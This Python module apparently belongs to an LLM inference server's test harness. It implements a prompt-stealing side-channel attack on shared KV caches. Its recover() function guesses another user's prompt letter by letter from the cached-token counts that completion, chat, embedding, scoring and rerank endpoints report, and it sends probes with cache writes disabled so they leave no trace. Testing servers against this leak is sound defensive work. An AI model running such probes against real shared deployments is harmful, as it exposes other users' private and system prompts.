"""An attacker who guesses what somebody else's prompt says, letter by letter.

A prompt that begins with a right guess finds one more token in the cache than one that begins with
a wrong guess; that is all there is to it. The probes write nothing, so that one does not find
another.

Source: the prompt-stealing attacks on shared KV caches, such as arXiv 2411.18191.
"""

from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

MODEL = "tiny-shakespeare"
"""The bundled model."""

JUDGE = "judge"
"""A classifier with one class that reads letters as the bundled model does."""

Send = Callable[[str, dict[str, Any]], dict[str, Any]]
"""Sends a body to a path, and returns the answer."""


@dataclass(frozen=True)
class Endpoint:
    """One way to have a prompt computed.

    Attributes:
        path: Of the route.
        body: Makes the body that sends a text.
        cached: Reads from an answer how many prompt tokens were cached.
        total: Reads how many there were.
        text: Reads the continuation.
        writes_not: What of the body leaves nothing behind.
        limit: Name of the field that bounds the answer.
        model: Name of a model that has it.
        num_recomputed: Tokens of a prompt that are computed whatever is cached.
    """

    path: str
    body: Callable[[str], dict[str, Any]]
    cached: Callable[[dict[str, Any]], int]
    total: Callable[[dict[str, Any]], int]
    text: Callable[[dict[str, Any]], str]
    writes_not: dict[str, Any]
    limit: str = "max_tokens"
    model: str = MODEL
    num_recomputed: int = 1

    def ask(self, send: Send, text: str, max_tokens: int = 1, **more: Any) -> dict[str, Any]:
        """Have a text continued."""
        return send(self.path, {**self.body(text), self.limit: max_tokens, **more})

    def probe(self, send: Send, text: str) -> int:
        """Return how many tokens of a text are cached, leaving nothing behind."""
        return self.cached(self.ask(send, text, **self.writes_not))


def _openai_cached(answer: dict[str, Any]) -> int:
    return answer["usage"]["prompt_tokens_details"]["cached_tokens"]


def _openai_total(answer: dict[str, Any]) -> int:
    return answer["usage"]["prompt_tokens"]


def _messages(text: str) -> dict[str, Any]:
    return {"model": MODEL, "messages": [{"role": "user", "content": text}], "temperature": 0}


def _anthropic_total(answer: dict[str, Any]) -> int:
    usage = answer["usage"]
    names = ("input_tokens", "cache_read_input_tokens", "cache_creation_input_tokens")
    return sum(usage[name] or 0 for name in names)


NO_WRITE = {"cache": {"write": False}}


def _scoring(
    path: str, body: Callable[[str], dict[str, Any]], model: str = JUDGE, num_recomputed: int = 1
) -> Endpoint:
    """Return an endpoint that answers with numbers."""

    def named_body(text: str) -> dict[str, Any]:
        return {"model": model, **body(text)}

    return Endpoint(
        path,
        named_body,
        _openai_cached,
        _openai_total,
        lambda answer: "",
        NO_WRITE,
        model=model,
        num_recomputed=num_recomputed,
    )


def _score_endpoints() -> list[Endpoint]:
    """Return all paths of scores: the secret is the query, or the only document."""
    queries = [_scoring(p, lambda q: {"text_1": q, "text_2": "!"}) for p in ("/score", "/v1/score")]
    documents = [
        _scoring(path, lambda document: {"query": "", "documents": [document]})
        for path in ("/rerank", "/v1/rerank", "/v2/rerank")
    ]
    return [*queries, *documents]


ENDPOINTS = {
    endpoint.path: endpoint
    for endpoint in (
        Endpoint(
            "/v1/completions",
            lambda text: {"model": MODEL, "prompt": text, "temperature": 0},
            _openai_cached,
            _openai_total,
            lambda answer: answer["choices"][0]["text"],
            NO_WRITE,
        ),
        Endpoint(
            "/v1/chat/completions",
            _messages,
            _openai_cached,
            _openai_total,
            lambda answer: answer["choices"][0]["message"]["content"],
            NO_WRITE,
        ),
        Endpoint(
            "/v1/messages",
            _messages,
            lambda answer: answer["usage"]["cache_read_input_tokens"],
            _anthropic_total,
            lambda answer: "".join(part.get("text", "") for part in answer["content"]),
            NO_WRITE,
        ),
        Endpoint(
            "/v1/responses",
            lambda text: {"model": MODEL, "input": text, "temperature": 0},
            lambda answer: answer["usage"]["input_tokens_details"]["cached_tokens"],
            lambda answer: answer["usage"]["input_tokens"],
            lambda answer: answer["output"][0]["content"][0]["text"],
            NO_WRITE,
            limit="max_output_tokens",
        ),
        _scoring("/v1/embeddings", lambda text: {"input": text}, MODEL),
        # Of a choice "!", and of the prompt's last token, whose logits are those of the choice.
        _scoring("/v1/choose", lambda text: {"prompt": text, "choices": ["!"]}, MODEL, 2),
        _scoring("/classify", lambda text: {"input": text}),
        *_score_endpoints(),
        Endpoint(
            "/ui/play",
            lambda text: {"prompt": text},
            lambda answer: sum(origin != "computed" for _, origin in answer["tokens"]),
            lambda answer: len(answer["tokens"]),
            lambda answer: answer["text"],
            {"write": False},
        ),
    )
}
"""Every way to have a prompt computed, by path."""

GENERATING = ("/v1/completions", "/v1/chat/completions", "/v1/responses", "/v1/messages")
"""The paths of APIs that answer with text."""


def recover(send: Send, endpoint: Endpoint, known: str, alphabet: str, length: int) -> str:
    """Guess what follows a known beginning of somebody else's prompt.

    Args:
        send: The attacker's own access.
        endpoint: Through which.
        known: The beginning.
        alphabet: Letters to try.
        length: How many to guess.

    Returns:
        As far as one letter stood out among all others.
    """
    found = ""
    while len(found) < length:
        hits = {letter: endpoint.probe(send, known + found + letter + "~") for letter in alphabet}
        best = max(hits.values())
        winners = [letter for letter, count in hits.items() if count == best]
        if len(winners) != 1:
            return found
        found += winners[0]
    return found
